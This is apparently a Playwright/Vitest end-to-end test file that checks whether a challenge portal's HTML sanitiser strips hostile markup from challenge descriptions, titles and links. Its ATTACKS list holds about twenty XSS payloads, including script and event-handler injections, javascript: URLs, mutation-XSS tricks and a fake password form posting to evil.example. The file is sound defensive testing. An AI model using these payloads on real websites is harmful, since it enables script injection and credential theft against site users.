import { existsSync, readFileSync } from 'node:fs'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { findAuteurs } from '../../src/auteurs/queries.js'
import { ACCOUNT, addAccount, type DumpLine, startServer, type TestServer } from '../harness.js'
import { launch, Visitor } from './visitor.js'

const REAL = new URL('../../../shared/data/portail.ndjson', import.meta.url)

/** Attempts to run a script, load from another host, or imitate the page. Each would be detected if it succeeded. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(`xss`)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">follow me</a>',
  '<a href="&#106;avascript:alert(1)">follow me</a>',
  '<a href="data:text/html,<script>alert(1)</script>">follow me</a>',
  '<style>@import "https://evil.example/a.css"; body { display: none }</style><p>shown</p>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/b.png)">over all</p>',
  '<form action="https://evil.example/"><input name=password><button>Sign in</button></form>',
  '<base href="https://evil.example/"><a href="page">elsewhere</a>',
  '<link rel=stylesheet href="https://evil.example/c.css"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<video autoplay src="https://evil.example/v.mp4" onloadstart=alert(1)></video><object data="https://evil.example/o"></object>',
  '<details open ontoggle=alert(1)><summary>s</summary></details><body onload=alert(1)>',
  '<p id="page" class="header" onclick="alert(1)">clobbers</p><form id="content"><input name="children"></form>',
]

let browser: Browser
beforeAll(async () => {
  browser = await launch()
})
afterAll(() => browser.close())

const attacks: DumpLine[] = [
  { type: 'auteur', id_auteur: 1, nom: '<img src=x onerror=alert(1)>' },
  { type: 'rubrique', id_rubrique: 1, nom: '<script>alert(1)</script>' },
  ...ATTACKS.map((descriptif, i) => ({
    type: 'challenge',
    id_challenge: i + 1,
    id_rubrique: 1,
    titre: `<b onmouseover=alert(1)>attack ${i + 1}</b>`,
    soustitre: '"><script>alert(1)</script>',
    descriptif: `<p>before</p>${descriptif}<p>after <strong>all</strong></p>`,
    url_challenge: 'x"onclick="alert(1)',
    score: 5,
  })),
]

test('no description runs a script, loads from another host, restyles the page or links to a script', async () => {
  const server = await startServer(attacks, { logLevel: 'silent' })
  const visitor = await signedIn(server)
  const { page } = visitor
  // The browser reports handlers and styles while the sanitiser parses them in an inert document.
  visitor.expectFault(
    /^(Executing inline event handler|Applying inline style|policy: (script-src-attr|style-src-(attr|elem)|base-uri)|Setting the document.s base URI)/,
  )
  for (const [i, attack] of ATTACKS.entries()) {
    await visitor.go(`/p/challenges/${i + 1}`)
    const shown = page.locator('.description')
    const text = await shown.innerText()
    expect([attack, text]).toEqual([attack, expect.stringMatching(/^before/)])
    const kept = await shown.evaluate((element) =>
      [...element.querySelectorAll('*')].map((each) => each.outerHTML).join('\n'),
    )
    expect([attack, kept]).not.toEqual([
      attack,
      expect.stringMatching(
        /<(?:script|img|svg|iframe|style|form|input|base|link|meta|video|object)\b| on\w+=| style=| id=| class=|javascript:|data:/i,
      ),
    ])
    for (const link of await shown.locator('a').all()) {
      expect(String(await link.getAttribute('href'))).toMatch(/^https?:\/\/|^mailto:|^null$/)
      expect(await link.getAttribute('rel')).toContain('noopener')
    }
    for (const element of await shown.locator('*').all())
      await element.hover({ force: true, timeout: 1_000 }).catch(() => undefined)
  }
  await visitor.look('attacks')
  for (const path of ['/p/challenges', '/p/auteurs', '/p/classement', '/p/auteurs/1']) await visitor.go(path)
  visitor.checkFaults('attacks')
  await visitor.close()
  await server.close()
})

const isThere = existsSync(REAL)
if (!isThere) console.warn('skipped: ../shared/data/portail.ndjson is missing')

test.skipIf(!isThere)('the descriptions of a real portal are shown, and none of their scripts run', async () => {
  const server = await startServer(readFileSync(REAL, 'utf8'), { logLevel: 'silent' })
  const { rows } = await server.store.read((db) => findAuteurs(db, {}, 0, 1))
  await addAccount(server.store, { ...ACCOUNT, idAuteur: rows[0]?.id_auteur as number })
  const visitor = await signedIn(server)
  const { page } = visitor
  const lines = readFileSync(REAL, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as DumpLine)
  const suspect = lines.filter(({ descriptif }) =>
    /<(?!\/?(?:p|a|code|em|i|b|strong|br|ul|li|ol)\b)|javascript:|on\w+=|<script/i.test(String(descriptif ?? '')),
  )
  expect(suspect.length).toBeGreaterThan(0)
  for (const { id_challenge } of suspect) {
    await visitor.go(`/p/challenges/${id_challenge}`)
    expect((await page.locator('.description').innerText()).length).toBeGreaterThan(0)
    visitor.checkFaults(`challenge ${id_challenge}`)
  }
  await visitor.look('real description')
  await visitor.close()
  await server.close()
})

async function signedIn(server: TestServer): Promise<Visitor> {
  const visitor = await Visitor.of(browser, server.url, { language: 'en', width: 1280 })
  visitor.expectFault(/401.*\/compte$/)
  await visitor.go('/p/challenges')
  await visitor.signIn(ACCOUNT)
  return visitor
}
